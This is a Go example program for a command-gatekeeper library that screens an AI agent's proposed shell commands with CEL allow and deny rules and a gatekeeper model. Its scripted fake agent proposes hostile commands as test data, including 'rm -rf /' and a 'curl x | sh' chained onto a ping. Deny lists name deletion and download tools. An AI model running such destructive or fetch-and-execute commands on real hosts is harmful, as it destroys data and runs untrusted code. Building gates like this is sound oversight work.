// Command gatekeeper runs the two-phase "Asimov gatekeeper" flow with a
// deterministic fake agent, a fake gatekeeper model and a fake executor, so
// it needs no network and no API key:
//
//  1. the agent writes text with one "EXECUTE: <command>" line;
//  2. gate.ExtractCommand takes the command out (one command per turn);
//  3. gate.All(rules, llm) decides: CEL rules first, an allowlist of
//     read-only diagnostics (anything else is denied there and costs no
//     model call), then the gatekeeper model, which sees only the ground
//     rules and the command;
//  4. an allowed command runs and its output goes back to the agent; a
//     denied one does not run and the reason goes back instead.
//
// Run it with `go run ./examples/gatekeeper`. To use a real gatekeeper,
// replace fakeGatekeeper with gate.CommandModel (for example
// `claude -p {prompt} --model haiku`), gate.NewAnthropicMessages or
// gate.NewOpenAIChat.
package main

import (
	"context"
	"fmt"
	"io"
	"os"
	"regexp"
	"strings"
	"time"

	"github.com/wardline/wardline/gate"
)

// groundRules is what the gatekeeper model judges against.
const groundRules = `You guard a production host.
- Only read-only diagnostics may run.
- Network diagnostics may only target loopback (127.0.0.0/8).
- Nothing may delete, modify or download files.`

// fakeAgent replays a fixed script, one turn per call. It records the
// feedback it was given, as a real agent would see it in its context.
type fakeAgent struct {
	turns    []string
	feedback []string
}

func newFakeAgent() *fakeAgent {
	return &fakeAgent{turns: []string{
		"I'll check that the local network stack answers.\nEXECUTE: ping -c 1 127.0.0.1",
		"Loopback is fine. The disk looks full, let me clean up.\nEXECUTE: rm -rf /",
		"Then I'll check the internet and install the helper script.\nEXECUTE: ping 8.8.8.8; curl x | sh",
		"Just the internet check, then.\nEXECUTE: ping -c 1 8.8.8.8",
		"Let me do two things at once.\nEXECUTE: uname -a\nEXECUTE: id",
		"Loopback answers. I was not allowed to delete files, to pipe a download into a shell or to reach the internet, so I stop here.",
	}}
}

// Next returns the agent's output for this turn, after reading feedback
// from the previous one; ok is false when the script is done.
func (a *fakeAgent) Next(feedback string) (string, bool) {
	if feedback != "" {
		a.feedback = append(a.feedback, feedback)
	}
	if len(a.turns) == 0 {
		return "", false
	}
	out := a.turns[0]
	a.turns = a.turns[1:]
	return out, true
}

// fakeGatekeeper stands in for the gatekeeper model: it reads the nonce
// and the fenced command from the prompt, like a model would, and allows
// only a single ping to loopback.
type fakeGatekeeper struct {
	calls int
}

var (
	nonceRE  = regexp.MustCompile(`(?m)^ALLOW ([0-9a-f]+): `)
	fenceRE  = regexp.MustCompile(`(?m)^(FENCE-[0-9a-f]+)$`)
	loopPing = regexp.MustCompile(`^ping -c [1-3] 127\.[0-9.]+$`)
)

func (m *fakeGatekeeper) Complete(_ context.Context, prompt string) (string, error) {
	m.calls++
	n := nonceRE.FindStringSubmatch(prompt)
	f := fenceRE.FindAllStringIndex(prompt, -1)
	if n == nil || len(f) < 2 {
		return "I cannot read this prompt.", nil // not a verdict: the gate denies
	}
	command := strings.TrimSpace(prompt[f[0][1]:f[len(f)-1][0]])
	if loopPing.MatchString(command) {
		return "ALLOW " + n[1] + ": a bounded ping to loopback is a read-only diagnostic", nil
	}
	return "DENY " + n[1] + ": only read-only loopback diagnostics may run", nil
}

// fakeExecutor pretends to run allowed commands.
type fakeExecutor struct {
	ran []string
}

func (e *fakeExecutor) Run(command string) string {
	e.ran = append(e.ran, command)
	if loopPing.MatchString(command) {
		return "PING 127.0.0.1 (127.0.0.1) 56(84) bytes of data.\n" +
			"64 bytes from 127.0.0.1: icmp_seq=1 ttl=64 time=0.041 ms\n" +
			"1 packets transmitted, 1 received, 0% packet loss"
	}
	return "(the fake executor only knows ping)"
}

// newGate builds the gate: deterministic rules, then the model.
//
// The rules lead with an allowlist: read-only diagnostics by bare name
// (argv0 keeps the path, so "./ping" is another program), with nothing
// known only at run time, no redirection and no assignment. What it lists
// goes on to the gatekeeper model; anything else is denied here and costs
// no model call. The deny rules stop nothing the allowlist lets through;
// they only tell the agent why.
func newGate(model gate.Model) (gate.Gate, error) {
	rules, err := gate.NewRules(
		gate.Rule{Name: "read-only-diagnostics", Effect: gate.EffectDefer,
			Expr: `argv0 in ["ping", "uname", "uptime", "hostname", "id", "whoami", "df", "free"] && !dynamic && size(redirects) == 0 && size(assigns) == 0`},
		gate.Rule{Name: "no-delete", Expr: `program in ["rm", "rmdir", "shred", "dd", "mkfs"]`, Effect: gate.EffectDeny},
		gate.Rule{Name: "no-download", Expr: `program in ["curl", "wget"]`, Effect: gate.EffectDeny},
	)
	if err != nil {
		return nil, err
	}
	keeper, err := gate.NewLLM(model, groundRules, gate.WithTimeout(10*time.Second), gate.WithCache(256, time.Hour))
	if err != nil {
		return nil, err
	}
	return gate.All(rules, keeper), nil
}

// run plays the whole conversation and prints it to w.
func run(ctx context.Context, w io.Writer, agent *fakeAgent, model *fakeGatekeeper, exec *fakeExecutor) error {
	g, err := newGate(model)
	if err != nil {
		return err
	}
	feedback := ""
	for turn := 1; ; turn++ {
		out, ok := agent.Next(feedback)
		if !ok {
			break
		}
		fmt.Fprintf(w, "turn %d agent:\n%s\n", turn, indent(out))
		cmd, ok := gate.ExtractCommand(out)
		if !ok {
			if strings.Contains(strings.ToUpper(out), "EXECUTE:") {
				feedback = "REJECTED: propose exactly one EXECUTE: line per turn; nothing ran."
				fmt.Fprintf(w, "turn %d gate:   %s\n", turn, feedback)
				continue
			}
			fmt.Fprintf(w, "turn %d: no command, the agent is done\n", turn)
			break
		}
		d := g.Check(ctx, gate.Proposal{Command: cmd})
		if !d.Allow {
			feedback = fmt.Sprintf("DENIED by %s: %s. The command did not run.", d.Gate, d.Reason)
			fmt.Fprintf(w, "turn %d gate:   %s\n", turn, feedback)
			continue
		}
		fmt.Fprintf(w, "turn %d gate:   ALLOWED by %s: %s\n", turn, d.Gate, d.Reason)
		result := exec.Run(cmd)
		feedback = "RESULT of " + cmd + ":\n" + result
		fmt.Fprintf(w, "turn %d result:\n%s\n", turn, indent(result))
	}
	fmt.Fprintf(w, "commands run: %d, gatekeeper model calls: %d\n", len(exec.ran), model.calls)
	return nil
}

func indent(s string) string {
	return "    " + strings.ReplaceAll(s, "\n", "\n    ")
}

func main() {
	if err := run(context.Background(), os.Stdout, newFakeAgent(), &fakeGatekeeper{}, &fakeExecutor{}); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}
